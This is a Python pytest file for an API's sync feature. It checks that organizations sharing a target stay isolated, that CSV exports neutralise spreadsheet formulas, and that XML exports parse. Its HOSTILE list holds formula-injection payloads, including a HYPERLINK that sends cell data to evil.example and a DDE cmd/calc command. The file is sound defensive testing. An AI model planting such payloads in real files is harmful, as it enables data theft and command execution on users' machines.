"""`/api/sync` targets are shared by every organization of the installation: one
organization's sync must never overwrite or sit beside another's, and what it writes must be
safe to open (no live spreadsheet formulas, XML that parses)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from xml.etree import ElementTree as ET

import httpx
import pytest
import sqlalchemy as sa

from tests.api.conftest import Api, start_api, synced_file, wait_for


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Api, str]]:
    """An API whose ``erp`` destination is one SQLite table every organization syncs into."""
    tmp = tmp_path_factory.mktemp("sync-shared")
    target = f"sqlite:///{tmp / 'erp.db'}"
    running, server = start_api(
        f"sqlite:///{tmp / 'store.db'}", tmp, sync_targets={"erp": f"{target}#products"}
    )
    yield running, target
    for client in running.clients:
        client.close()
    server.stop()


def _sync(client: httpx.Client, destination: str, fmt: str, data: list[dict]) -> dict:
    job = client.post("/api/ingest", json={"source": "erp", "records": [{"id": "seed"}]}).json()
    sync = client.post(
        "/api/sync",
        json={"job_id": job["job_id"], "destination": destination, "format": fmt, "data": data},
    )
    assert sync.status_code == 202, sync.text
    path = f"/api/sync/{sync.json()['sync_id']}"
    done = wait_for(
        lambda: (s := client.get(path).json())["status"] in ("completed", "failed") and s
    )
    assert done["status"] == "completed", done
    return done


def test_two_organizations_rows_with_one_id_both_survive_in_a_sql_target(
    shared: tuple[Api, str],
) -> None:
    api, target = shared
    first, second = api.client(), api.client()
    _sync(first, "erp", "json", [{"id": "A-1", "title": "first's bolt"}])
    _sync(second, "erp", "json", [{"id": "A-1", "title": "second's nut"}])
    _sync(first, "erp", "json", [{"id": "A-1", "title": "first's bolt, v2"}])
    engine = sa.create_engine(target)
    with engine.connect() as conn:
        rows = conn.execute(
            sa.text("SELECT organization_id, id, title FROM products ORDER BY title")
        ).all()
    engine.dispose()
    assert [(r.id, r.title) for r in rows] == [("A-1", "first's bolt, v2"), ("A-1", "second's nut")]
    assert len({r.organization_id for r in rows}) == 2


def test_file_targets_keep_each_organizations_files_in_its_own_folder(api: Api) -> None:
    first, second = api.client(), api.client()
    one = synced_file(api, _sync(first, "custom", "json", [{"id": "X"}])["result"])
    two = synced_file(api, _sync(second, "custom", "json", [{"id": "X"}])["result"])
    assert one.parent != two.parent and one.parent.parent == two.parent.parent
    assert {p.name for p in one.parent.iterdir()} == {one.name}


HOSTILE = [
    {"id": "F-1", "title": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "price": -5},
    {"id": "F-2", "title": "+1+cmd|' /C calc'!A0", "price": "-5"},
    {"id": "F-3", "title": "@SUM(1+1)", "price": "-3.5"},
    {"id": "F-4", "title": "-2+3", "price": 2},
    {"id": "F-5", "title": "\tTAB", "price": None},
    {"id": "F-6", "title": "\rCR", "price": None},
]


def test_csv_sync_neutralises_formula_cells_and_keeps_numbers(api: Api) -> None:
    done = _sync(api.client(), "custom", "csv", HOSTILE)
    text = synced_file(api, done["result"]).read_bytes().decode("utf-8")  # CRs as written
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["title"][0] for r in rows] == ["'"] * len(HOSTILE)
    assert [r["title"][1:] for r in rows] == [h["title"] for h in HOSTILE]
    assert [r["price"] for r in rows] == ["-5", "-5", "-3.5", "2", "", ""]


def test_xml_sync_drops_characters_xml_cannot_hold_so_the_file_parses(api: Api) -> None:
    data = [{"id": "C-1", "title": "bell\x07 and\x00 escape\x1b", "note": "tab\tkept"}]
    done = _sync(api.client(), "custom", "xml", data)
    root = ET.parse(synced_file(api, done["result"])).getroot()
    record = root.find("record")
    assert record.findtext("title") == "bell and escape"
    assert record.findtext("note") == "tab\tkept"
